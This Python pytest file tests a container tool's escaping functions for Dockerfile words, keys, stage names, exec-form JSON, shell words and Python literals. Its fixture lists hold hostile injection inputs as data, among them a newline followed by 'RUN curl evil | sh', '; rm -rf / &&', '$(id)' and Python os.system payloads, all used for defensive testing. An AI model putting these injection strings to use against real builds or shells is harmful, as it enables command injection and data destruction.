"""One escaping function per language the Dockerfile renderer writes, hostile inputs first.

Each escaped form is read back by that language's own reader (JSON, POSIX shell as
``shlex`` models it, Python's ``ast``), or for Dockerfile words by a small model of
BuildKit's word lexer, and must give back the value unchanged.
"""

from __future__ import annotations

import ast
import json
import shlex

import pytest

from containerize.errors import ConfigError
from containerize.image import escape

HOSTILE = [
    'say "hi"',
    "it's",
    "$HOME ${PATH} $(id) `id`",
    "back\\slash\\",
    "trailing backslash \\",
    "\\\\\\",
    "a=b c=d",
    "--from=evil",
    "-m",
    "# not a comment",
    "<<EOF",
    "; rm -rf / &&",
    "café ☕ \u200b",
    "'\"'\"'",
    "",
]
LINE_BREAKS = ["a\nRUN curl evil | sh", "a\rb", "a\r\nb", "tab\there", "nul\0", "\x1b[2J", "\u2028"]


def buildkit_words(text: str) -> list[str]:
    """The words BuildKit's Dockerfile lexer reads from *text* (escape token ``\\``).

    A model of ``shell.Lex.ProcessWords`` for what the renderer writes; an unescaped
    ``$`` would be a variable expansion, which no escaped value may contain.
    """
    words: list[str] = []
    word: list[str] | None = None
    i = 0
    while i < len(text):
        char = text[i]
        if char in " \t":
            if word is not None:
                words.append("".join(word))
                word = None
            i += 1
            continue
        word = [] if word is None else word
        if char == "$":
            raise AssertionError(f"unescaped $ at {i} in {text!r}")
        if char == "\\":
            word.append(text[i + 1])
            i += 2
        elif char == "'":
            end = text.index("'", i + 1)
            word.append(text[i + 1 : end])
            i = end + 1
        elif char == '"':
            i += 1
            while text[i] != '"':
                if text[i] == "$":
                    raise AssertionError(f"unescaped $ at {i} in {text!r}")
                if text[i] == "\\" and text[i + 1] in '"$\\':
                    i += 1
                word.append(text[i])
                i += 1
            i += 1
        else:
            word.append(char)
            i += 1
    if word is not None:
        words.append("".join(word))
    return words


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("always_quote", [False, True])
def test_dockerfile_word_reads_back_as_one_literal_word(value: str, always_quote: bool) -> None:
    word = escape.dockerfile_word(value, always_quote=always_quote)
    assert "\n" not in word
    assert buildkit_words(word) == [value]
    if always_quote:
        assert word.startswith('"')
        assert word.endswith('"')
    # Never bare where the Dockerfile would read a flag (COPY --from=...).
    assert not word.startswith("-")


def test_dockerfile_word_escapes_exactly_the_three_specials() -> None:
    assert escape.dockerfile_word('say "hi" for $5 \\ café') == '"say \\"hi\\" for \\$5 \\\\ café"'
    assert escape.dockerfile_word("/opt/venv") == "/opt/venv"
    assert escape.dockerfile_word("1", always_quote=True) == '"1"'


@pytest.mark.parametrize("value", LINE_BREAKS)
def test_dockerfile_word_refuses_what_a_line_cannot_hold(value: str) -> None:
    with pytest.raises(
        ConfigError, match=r"tool.containerize.env.GREETING: .* which a Dockerfile"
    ) as info:
        escape.dockerfile_word(value, source="tool.containerize.env.GREETING")
    assert info.value.hint


def test_dockerfile_word_without_source_still_says_where() -> None:
    with pytest.raises(
        ConfigError, match=r"^a value for the Dockerfile: 'a\\nb' holds a line feed"
    ):
        escape.dockerfile_word("a\nb")


@pytest.mark.parametrize("name", ["PATH", "_X1", "org.opencontainers.image.title", "a-b"])
def test_keys_are_bare(name: str) -> None:
    assert escape.dockerfile_key(name) == name


@pytest.mark.parametrize("name", ["", "A B", "A=B", "$X", "1X", "X\nRUN id", '"X"', "-x"])
def test_keys_that_would_need_quoting_are_refused(name: str) -> None:
    with pytest.raises(
        ConfigError, match=r"tool.containerize.env: .* cannot be an ENV or LABEL key"
    ):
        escape.dockerfile_key(name, source="tool.containerize.env")


@pytest.mark.parametrize("name", ["gunicorn", "venv-mod_wsgi", "a.b"])
def test_stage_names(name: str) -> None:
    assert escape.dockerfile_stage(name) == name


@pytest.mark.parametrize("name", ["", "Gunicorn", "1st", "a b", "a,b", "a\nFROM x", "-a"])
def test_bad_stage_names(name: str) -> None:
    with pytest.raises(ConfigError, match=r"servers: .* cannot name a build stage"):
        escape.dockerfile_stage(name, source="servers")


@pytest.mark.parametrize("value", [*HOSTILE, *(v for v in LINE_BREAKS if "\0" not in v), "\ud7ff"])
def test_exec_form_is_one_line_of_json_that_reads_back(value: str) -> None:
    text = escape.exec_form(["/bin/prog", value])
    assert "\n" not in text
    assert "\r" not in text
    assert "\u2028" not in text
    assert text.isascii()
    assert json.loads(text) == ["/bin/prog", value]


def test_exec_form_matches_the_reviewed_spacing() -> None:
    assert escape.exec_form(["a", "-c", "x"]) == '["a", "-c", "x"]'


@pytest.mark.parametrize("argv", [["prog", "a\0b"], ["prog", "\udc80"], [], "prog"])
def test_exec_form_refuses_what_no_argv_can_hold(argv: list[str]) -> None:
    with pytest.raises(ConfigError, match=r"^the gunicorn server command: "):
        escape.exec_form(argv, source="the gunicorn server command")


@pytest.mark.parametrize("value", HOSTILE)
@pytest.mark.parametrize("always_quote", [False, True])
def test_shell_word_reads_back_as_one_literal_word(value: str, always_quote: bool) -> None:
    word = escape.shell_word(value, always_quote=always_quote)
    assert shlex.split(f"echo {word}") == ["echo", value]
    if always_quote:
        assert word.startswith("'")


def test_shell_words_stay_bare_when_nothing_needs_quoting() -> None:
    assert escape.shell_word("-m") == "-m"
    assert escape.shell_word("/wheelhouse/requirements-base.txt") == (
        "/wheelhouse/requirements-base.txt"
    )
    assert escape.shell_word("app:x:10001:", always_quote=True) == "'app:x:10001:'"


@pytest.mark.parametrize("value", LINE_BREAKS)
def test_shell_word_refuses_what_a_run_line_cannot_hold(value: str) -> None:
    with pytest.raises(ConfigError, match=r"^the base image's Python: .* a RUN line"):
        escape.shell_word(value, source="the base image's Python")


def test_shell_command_never_starts_with_a_flag_or_an_assignment() -> None:
    assert escape.shell_command(["/usr/bin/python3", "-m", "venv", "/opt/venv"]) == (
        "/usr/bin/python3 -m venv /opt/venv"
    )
    # Bare, BuildKit would take the first as RUN --mount=..., and a shell the second as
    # an assignment followed by the command 'id'.
    mount = escape.shell_command(["--mount=type=secret,id=x", "id"])
    assert mount == "'--mount=type=secret,id=x' id"
    assign = escape.shell_command(["PATH=/tmp", "id"])
    assert assign == "'PATH=/tmp' id"
    for line in (mount, assign):
        assert shlex.split(line)[1] == "id"
    with pytest.raises(ConfigError, match="a command needs at least a program"):
        escape.shell_command([])


@pytest.mark.parametrize(
    "value",
    [
        *HOSTILE,
        *LINE_BREAKS,
        "/'+__import__('os').system('id')+'",
        '/", timeout=4); import os; os.system("id"); ("',
        "/\\'); import os #",
        "\udc80",
    ],
)
def test_python_string_is_one_printable_literal_that_reads_back(value: str) -> None:
    literal = escape.python_string(value)
    assert literal.isascii()
    assert literal.isprintable()
    tree = ast.parse(f"f({literal}, timeout=4)", mode="eval")
    assert isinstance(tree.body, ast.Call)
    (arg,) = tree.body.args
    assert isinstance(arg, ast.Constant)
    assert arg.value == value
    assert ast.literal_eval(literal) == value


def test_python_string_keeps_the_reviewed_quotes() -> None:
    assert escape.python_string("http://127.0.0.1:8000/") == "'http://127.0.0.1:8000/'"


def test_python_string_refuses_a_non_string() -> None:
    with pytest.raises(
        ConfigError, match=r"^tool.containerize.healthcheck-path: expected a string"
    ):
        escape.python_string(b"/x", source="tool.containerize.healthcheck-path")  # type: ignore[arg-type]
